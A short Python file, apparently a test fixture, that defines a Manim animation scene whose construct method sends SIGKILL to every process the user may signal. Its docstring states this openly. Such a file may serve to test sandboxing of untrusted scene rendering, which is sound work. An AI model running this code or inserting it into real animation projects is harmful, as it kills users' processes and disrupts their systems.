"""Sends SIGKILL to every process it may signal."""

import os
import signal

from manim import Scene


class KillAll(Scene):
    def construct(self):
        os.kill(-1, signal.SIGKILL)
        self.wait(0.1)
